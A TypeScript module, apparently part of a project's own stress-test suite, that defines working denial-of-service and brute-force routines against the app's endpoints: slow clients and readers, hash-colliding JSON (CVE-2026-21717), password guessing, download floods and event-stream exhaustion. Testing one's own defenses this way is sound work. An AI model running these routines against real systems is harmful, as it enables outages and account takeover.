import type { Agent } from 'node:http'
import { setTimeout as wait } from 'node:timers/promises'
import type { Person } from '../../src/server/testing/people.ts'
import { begin, type Headers, send, sendStorm, type Target } from './attacker.ts'
import { hangPdfs, keepReading } from './expensive-work.ts'

export type Spoils = Target & {
  /** Accounts of the attackers'. */
  accounts: Person[]
  /** A link whose gate they guess at, somebody's address, their own record, and a signed address of a large file of theirs. */
  link: string
  victim: string
  record: string
  fileUrl: string
}

const showCounts = (statuses: Record<string, number>) =>
  Object.entries(statuses)
    .map(([status, times]) => `${times} x ${status === '0' ? 'dropped' : status}`)
    .join(', ')

/** 300 connections that send a byte a second: headers, JSON bodies, files. */
async function holdSlowClients(spoils: Spoils): Promise<string> {
  const post = (path: string, length: number, headers: Headers = {}) =>
    begin(
      spoils,
      `POST ${path} HTTP/1.1\r\nHost: x\r\nContent-Length: ${length}\r\n${Object.entries(headers)
        .map(([name, value]) => `${name}: ${value}\r\n`)
        .join('')}\r\n`,
    )
  const sockets = Array.from({ length: 100 }, (_, n) => [
    begin(spoils, 'GET /healthz HTTP/1.1\r\nHost: x\r\nX-Slow: '),
    post('/auth/v1/signup', 60_000),
    post('/api/documents', 10_000_000, {
      ...spoils.accounts[n % spoils.accounts.length]?.headers,
      'content-type': 'multipart/form-data; boundary=x',
    }),
  ]).flat()
  for (let second = 0; second < 30; second += 1) {
    for (const socket of sockets) if (socket.writable) socket.write('x')
    await wait(1000)
  }
  const cut = sockets.filter(({ destroyed, readyState }) => destroyed || readyState !== 'open').length
  for (const socket of sockets) socket.destroy()
  return `${cut} of ${sockets.length} cut within 30 s`
}

/** Addresses at a gate and passwords of somebody else, 50 at a time. */
async function guessInParallel(spoils: Spoils): Promise<string> {
  const json = { 'content-type': 'application/json' }
  const gate = await sendStorm(2000, 50, (agent, n) =>
    send(spoils, agent, {
      method: 'POST',
      path: `/api/public/verifications/${spoils.link}/gate`,
      headers: json,
      body: JSON.stringify({ email: `guess-${n}@example.com` }),
    }),
  )
  const password = await sendStorm(2000, 50, (agent, n) =>
    send(spoils, agent, {
      method: 'POST',
      path: '/auth/v1/token?grant_type=password',
      headers: json,
      body: JSON.stringify({ email: spoils.victim, password: `Guess-${n}-horse` }),
    }),
  )
  return `gate ${showCounts(gate)}; passwords ${showCounts(password)}`
}

/** Strings that fell into few places of V8's table before it had a seed of its own (CVE-2026-21717), in bodies just below and above the limits. */
async function postCollidingJson(spoils: Spoils): Promise<string> {
  const makeBody = (bytes: number) =>
    JSON.stringify(Array.from({ length: Math.floor(bytes / 13) }, (_, n) => String(1_000_000 + n * 2 ** 14)))
  const storm = (path: string, bytes: number, headers: Headers = {}) => {
    const body = makeBody(bytes)
    return sendStorm(1000, 50, (agent) =>
      send(spoils, agent, {
        method: 'POST',
        path,
        headers: { 'content-type': 'application/json', ...headers },
        body,
      }),
    )
  }
  const [account] = spoils.accounts
  const small = await storm('/auth/v1/signup', 15_000)
  const creation = await storm('/api/verifications', 125_000, account?.headers)
  const large = await storm('/auth/v1/signup', 960_000)
  return `sign-up ${showCounts(small)}; creation ${showCounts(creation)}; 960 kB ${showCounts(large)}`
}

/** The same record and the same large file again and again, 50 at a time. */
async function repeatDownloads(spoils: Spoils): Promise<string> {
  const headers = spoils.accounts[0]?.headers ?? {}
  const get = (path: string, more: Headers) => (agent: Agent) => send(spoils, agent, { path, headers: more })
  const record = await sendStorm(3000, 50, get(`/api/records/${spoils.record}/files/record.pdf`, headers))
  const file = await sendStorm(600, 50, get(spoils.fileUrl, {}))
  return `record ${showCounts(record)}; file ${showCounts(file)}`
}

/** 200 downloads of a large file that the client never reads. */
async function holdSlowReaders(spoils: Spoils): Promise<string> {
  const sockets = Array.from({ length: 200 }, () => {
    const socket = begin(spoils, `GET ${spoils.fileUrl} HTTP/1.1\r\nHost: x\r\n\r\n`)
    socket.pause()
    return socket
  })
  await wait(15_000)
  for (const socket of sockets) socket.destroy()
  return `${sockets.length} readers for 15 s`
}

/** 1,500 event streams of one account. */
async function openEventStreams(spoils: Spoils): Promise<string> {
  const authorization = spoils.accounts.at(-1)?.headers.authorization
  const open = new Set<object>()
  const sockets = []
  for (let n = 0; n < 1500; n += 1) {
    const socket = begin(
      spoils,
      `GET /api/live HTTP/1.1\r\nHost: x\r\nAuthorization: ${authorization}\r\n\r\n`,
    )
    socket.on('data', (bytes) => {
      const text = String(bytes)
      if (text.includes(': connected')) open.add(socket)
      if (text.endsWith('0\r\n\r\n')) socket.destroy()
    })
    socket.once('close', () => open.delete(socket))
    sockets.push(socket)
    if (n % 50 === 49) await wait(50)
  }
  await wait(3000)
  const stayed = open.size
  for (const socket of sockets) socket.destroy()
  return `${stayed} of ${sockets.length} stayed open`
}

/** What others feel of the machine alone, for comparison. */
async function attackNothing(): Promise<string> {
  await wait(20_000)
  return 'for comparison'
}

export const attacks: Record<string, (spoils: Spoils) => Promise<string>> = {
  nothing: attackNothing,
  'slow clients': holdSlowClients,
  'slow readers': holdSlowReaders,
  'colliding JSON': postCollidingJson,
  'parallel guesses': guessInParallel,
  'repeated downloads': repeatDownloads,
  'event streams': openEventStreams,
  'hanging PDFs': hangPdfs,
  'busy readings': keepReading,
}
